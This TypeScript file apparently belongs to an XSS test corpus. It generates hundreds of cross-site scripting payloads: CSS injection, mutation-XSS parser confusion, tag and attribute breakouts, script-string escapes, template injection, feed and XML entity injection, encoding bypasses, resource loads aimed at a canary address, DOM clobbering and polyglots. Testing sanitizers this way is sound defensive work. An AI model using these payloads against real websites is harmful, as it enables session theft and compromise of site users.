import { canaryHost, pair, type Make } from './xss-elements.ts'

/** Families of `xss-corpus.ts` whose payloads confuse one parser with another, or leave the place where they stand. */
export const styles: Make[] = [
  (code) => `<p style="width:expression(${code})">x</p>`,
  (code) => `<p style="w\\69dth:expr/**/ession(${code})">x</p>`,
  (code) => `<p style="background:url(javascript:${code})">x</p>`,
  (code) => `<p style="background:url('java\nscript:${code}')">x</p>`,
  (_, address) => `<p style="background:url(${address})">x</p>`,
  (_, address) => `<p style="color:red;background-image:\\75rl(${address})">x</p>`,
  (_, address) => `<p style="list-style:url(${address})">x</p>`,
  (_, address) => `<p style="color:red}*{background:url(${address})">x</p>`,
  (_, address) => `<p style="content:url(${address});cursor:url(${address}),auto">x</p>`,
  (_, address) => `<p style="--x:url(${address});background:var(--x)">x</p>`,
  (_, address) => `<p style="background:image-set('${address}' 1x)">x</p>`,
  (code) => `<p style="behavior:url(#x);-moz-binding:url(data:text/xml,${code})">x</p>`,
  (code) => `<p style='color:red" onclick="${code}'>x</p>`,
  (_, address) => `<style>@import '${address}';</style>`,
  (_, address) => `<style>*{background:url(${address})}</style>`,
  (_, address) => `<style><!--</style><style>@import url(${address})</style>`,
  (_, address) => `<link rel=stylesheet href=${address}>`,
  (_, address) => `<link rel="prefetch preload dns-prefetch" as=image href=${address}>`,
  (_, address) => `<svg><style>*{fill:url(${address})}</style><rect width=9 height=9 /></svg>`,
  (_, address) => `<p style="position:fixed;inset:0;z-index:99999;background:#fff">${address}</p>`,
]

/** Text that one parser reads as text and another as elements. */
const rawText = ['style', 'title', 'noscript', 'xmp', 'textarea', 'noembed', 'noframes', 'iframe']
const foreign = [
  ['<svg>', '</svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi>', '</mi></math>'],
  ['<svg><desc>', '</desc></svg>'],
] as const
export const confusedText = pair(foreign, rawText, ([open, close], element) => (code) => {
  return `${open}<${element}><a title="</${element}><img src=x onerror=${code}>">${close}`
})

export const mutations: Make[] = [
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<style><a title="</style><img src=x onerror=${code}>">`,
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) => `<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=x onerror=${code}&gt;">`,
  (code) =>
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${code}>"></style></annotation-xml></math>`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) => `<svg><foreignObject><style><img title="</style><img src=x onerror=${code}>"></style></foreignObject></svg>`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  (code) => `<table><caption><svg><title><table><caption></svg><style><img title="</style><img src=x onerror=${code}>">`,
  (code) => `<select><template><style></select></template><img src=x onerror=${code}>`,
  (code) => `<select><option><style></option></select><img src=x onerror=${code}></style>`,
  (code) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
  (code) => `<xmp>&lt;img src=x onerror=${code}&gt;</xmp>`,
  (code) => `<plaintext>&lt;img src=x onerror=${code}&gt;`,
  (code) => `<textarea>&lt;/textarea&gt;&lt;img src=x onerror=${code}&gt;</textarea>`,
  (code) => `<textarea></textarea/><img src=x onerror=${code}>`,
  (code) => `<title></title/><img src=x onerror=${code}>`,
  (code) => `<option>&lt;img src=x onerror=${code}&gt;</option>`,
  (code) => `<noembed><img title="</noembed><img src=x onerror=${code}>"></noembed>`,
  (code) => `<template><noscript><a title="</template><img src=x onerror=${code}>"></noscript></template>`,
  (code) => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
  (code) => `<div><template shadowroot=open><script>${code}</script></template></div>`,
  (code) => `<a><table><a><img title="</table></a><img src=x onerror=${code}>"></a></table></a>`,
  (code) => `<pre>\n\n<b title="</pre><img src=x onerror=${code}>">x</b></pre>`,
  (code) => `<p title="\`><img src=x onerror=${code}>">x</p>`,
  (code) => `<img alt="\`\`onerror=${code} src=x">`,
  (code) => `<br title="--!><img src=x onerror=${code}>">`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<!---><img src=x onerror=${code}>-->`,
  (code) => `<!-- --!><img src=x onerror=${code}>-->`,
  (code) => `<!-- <!-- --><img src=x onerror=${code}> -->`,
  (code) => `<!--[if IE]><img src=x onerror=${code}><![endif]-->`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `<svg><![CDATA[><img title="]]><img src=x onerror=${code}>">]]></svg>`,
  (code) => `<?php><img src=x onerror=${code}>?>`,
  (code) => `<?xml version="1.0"?><img src=x onerror=${code}>`,
  (code) => `<!doctype html [<!entity x "<img src=x onerror=${code}>">]>&x;`,
  (code) => `</ ><img src=x onerror=${code}>`,
  (code) => `</x a="><img src=x onerror=${code}>">`,
  (code) => `<% <img src=x onerror=${code}> %>`,
  (code) => `<p ${'x '.repeat(200)}onclick=${code}>x</p>`,
  (code) => `${'<div>'.repeat(200)}<img src=x onerror=${code}>`,
  (code) => `${'<b><i>'.repeat(300)}<svg onload=${code}>`,
  (code) => `${'<table><tr><td>'.repeat(70)}<img src=x onerror=${code}>`,
  (code) => `${'<iframe>'.repeat(20)}<img src=x onerror=${code}>${'</iframe>'.repeat(20)}`,
]

/** What closes the place where a text may stand. */
const closers = [
  '">', "'>", '`>', '" >', "' >", '"/>', '">">', '-->', '--!>', '*/', ']]>', '?>', '%>', '}}', '\\">', "\\'>", '%22%3E', '&quot;&gt;',
  '</title>', '</textarea>', '</style>', '</script>', '</SCRIPT >', '</noscript>', '</iframe>', '</xmp>', '</template>', '</select>',
  '</option>', '</button>', '</svg>', '</math>', '</a>', '</p></div></main>', '</head><body>', '</body></html>', '"]}', '"}]}</script>',
] // prettier-ignore
export const breakouts = closers.map(
  (closer): Make =>
    (code) =>
      `${closer}<img src=x onerror=${code}>`,
)

export const attributeBreaks: Make[] = [
  (code) => `" onmouseover=${code} x="`,
  (code) => `' onmouseover=${code} x='`,
  (code) => `" autofocus onfocus=${code} x="`,
  (code) => `' autofocus onfocus=${code} tabindex=1 x='`,
  (code) => `x" style="animation-name:spin" onanimationstart="${code}`,
  (code) => `x onload=${code}`,
  (code) => `javascript:${code}//" onclick="${code}`,
  (code) => `\u00a0onerror=${code}`,
  (code) => `"\nonload="${code}`,
  (code) => `x&#34; onfocus=&#34;${code}&#34; autofocus`,
]

export const scriptBreaks: Make[] = [
  (code) => `</script><script>${code}</script>`,
  (code) => `</ScRiPt ><script>${code}</script>`,
  (code) => `<!--<script>${code}</script>`,
  (code) => `';${code}//`,
  (code) => `";${code}//`,
  (code) => `\`;${code}//`,
  (code) => `\\';${code}//`,
  (code) => `\\";${code}//`,
  (code) => `'-${code}-'`,
  (code) => `"-${code}-"`,
  (code) => `'+${code}+'`,
  (code) => `");${code};("`,
  (code) => `\u2028${code}//`,
  (code) => `\u2029${code}//`,
  (code) => `\r\n${code}\r\n//`,
  (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
  (code) => `\\x3cscript\\x3e${code}\\x3c/script\\x3e`,
  (code) => `\${${code}}`,
  (code) => `"}});${code};({"a":{"b":"`,
  (code) => `{"__proto__":{"onload":"${code}"}}`,
  (code) => `]},"x":${code},"y":[{`,
  (code) => `<\\/script><script>${code}<\\/script>`,
]

export const templates: Make[] = [
  (code) => `{{${code}}}`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{$on.constructor('${code}')()}}`,
  (code) => `{{_c.constructor('${code}')()}}`,
  (code) => `[[${code}]]`,
  (code) => `#{${code}}`,
  (code) => `<%= ${code} %>`,
  (code) => `{% ${code} %}`,
  (code) => `@{${code}}`,
  (code) => `<div v-html="'<img src=x onerror=${code}>'" v-on:load.once="${code}" @click="${code}">x</div>`,
  (code) => `<div ng-app ng-csp><b ng-focus=${code} autofocus>x</b></div>`,
  (code) => `<div x-data x-init="${code}">x</div>`,
  (code) => `<div hx-get=/whs/ hx-trigger=load hx-on::load="${code}">x</div>`,
  (code) => `<div data-bind="html: ${code}" data-toggle=tooltip data-html=true title="<img src=x onerror=${code}>">x</div>`,
  (code) => `![x](x"onerror="${code})`,
  (code) => `[x](javascript:${code})`,
]

export const feeds: Make[] = [
  (code) => `]]><script>${code}</script>`,
  (code) => `]]>]]><script>${code}</script>`,
  (code) => `]]>]]>]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  (code) => `]]></title></item><item><title><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  (code) => `</title><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script>`,
  (code) => `</channel></rss><html xmlns="http://www.w3.org/1999/xhtml"><script>${code}</script></html>`,
  (code) => `]]&gt;<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="${code}"/>`,
  (code) => `<![CDATA[<![CDATA[]]><script>${code}</script>]]>`,
  (code) => `<?xml-stylesheet type="text/xsl" href="data:text/xml,${code}"?>`,
  (_, address) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]>&e;`,
  (code) => `&#60;script&#62;${code}&#60;/script&#62;`,
  (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code) => `&amp;lt;script&amp;gt;${code}&amp;lt;/script&amp;gt;`,
  (code) => `\u000b]]>\u0008<script>${code}</script>`,
  (code) => `\ufffe]]><script>${code}</script>\uffff`,
]

export const encodings: Make[] = [
  (code) => `%3Cscript%3E${code}%3C/script%3E`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `\uff1cscript\uff1e${code}\uff1c/script\uff1e`,
  (code) => `\u02bcscript\u203a${code}`,
  (code) => `<\u0000script>${code}</script>`,
  (code) => `<scr\u0000ipt>${code}</scr\u0000ipt>`,
  (code) => `<\u017fcript>${code}</\u017fcript>`,
  (code) => `<\u0131mg src=x onerror=${code}>`,
  (code) => `\u202e<script>${code}</script>`,
  (code) => `<img src=x o\u200bnerror=${code} onerror=${code}>`,
  (code) => `<svg/onload\u00a0=${code} onload=${code}>`,
  (code) => `\ud83d\ude00<img src=x onerror=${code}>\ud83d\ude00`,
  (code) => `\u00bcscript\u00be${code}\u00bc/script\u00be`,
]

/** Nothing runs, but something asks another server, or takes the name of something of the page. */
export const loads: Make[] = [
  (_, address) => `<img src=${address}>`,
  (_, address) => `<img src='${address}?`,
  (_, address) => `<img srcset="${address} 1x" sizes=9px>`,
  (_, address) => `<picture><source srcset="${address}"><img src=x></picture>`,
  (_, address) => `<img src=/whs/icon.svg srcset=${address}>`,
  (_, address) => `<img src="/whs/files/../../${address}">`,
  (_, address) => `<img src="\\\\${canaryHost}\\x" alt="${address}">`,
  (_, address) => `<video poster=${address}></video>`,
  (_, address) => `<video src=${address} autoplay></video>`,
  (_, address) => `<audio src=${address} autoplay></audio>`,
  (_, address) => `<video src=x><track default src=${address}></video>`,
  (_, address) => `<input type=image src=${address}>`,
  (_, address) => `<body background=${address}>`,
  (_, address) => `<table background=${address}><tr><td>x</table>`,
  (_, address) => `<object data=${address}></object>`,
  (_, address) => `<embed src=${address}>`,
  (_, address) => `<iframe src=${address}></iframe>`,
  (_, address) => `<frameset><frame src=${address}></frameset>`,
  (_, address) => `<svg><image href=${address} width=9 height=9 /></svg>`,
  (_, address) => `<svg><use xlink:href=${address}#x /></svg>`,
  (_, address) => `<svg><filter id=f><feImage href=${address} /></filter><rect filter=url(#f) width=9 height=9 /></svg>`,
  (_, address) => `<base href=${address}/>`,
  (_, address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (_, address) => `<form action=${address} id=f><input name=x></form><button form=f autofocus>x</button>`,
  (_, address) => `<portal src=${address}></portal>`,
  (_, address) => `<fencedframe src=${address}></fencedframe>`,
  (_, address) => `<a href=/whs/ ping=${address}>x</a>`,
  (_, address) => `<link rel=icon href=${address}><link rel=manifest href=${address}>`,
  (_, address) => `<html manifest=${address}>`,
  (_, address) => `<img name=body id=__reactRouterContext src=${address}>`,
  (_, address) => `<form id=location name=cookie><input name=parentNode><input name=attributes></form>${address}`,
  (_, address) => `<a id=__xssRuns href="${address}"></a><a id=__xssRuns name=push href="${address}"></a>`,
]

export const polyglots: Make[] = [
  (code) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${code}//'>`,
  (code) => `'">*/--></script></style></title></textarea></noscript></template><img src=x onerror=${code}>{{${code}}}\${${code}}]]>`,
  (code) => `\`"'><svg/onload=${code}></svg><!--\u2028${code}\u2029-->`,
  (code) => `</script><svg/onload='/*'/*"/*\`/*-->*/${code}//'>`,
  (code) => `<a href="javascript:${code}" onclick=${code}><img src=x onerror=${code}><svg onload=${code}></svg></a>]]>`,
  (code) => `<p title='</p><script>${code}</script>'>"-${code}-"</p>';${code}//`,
]
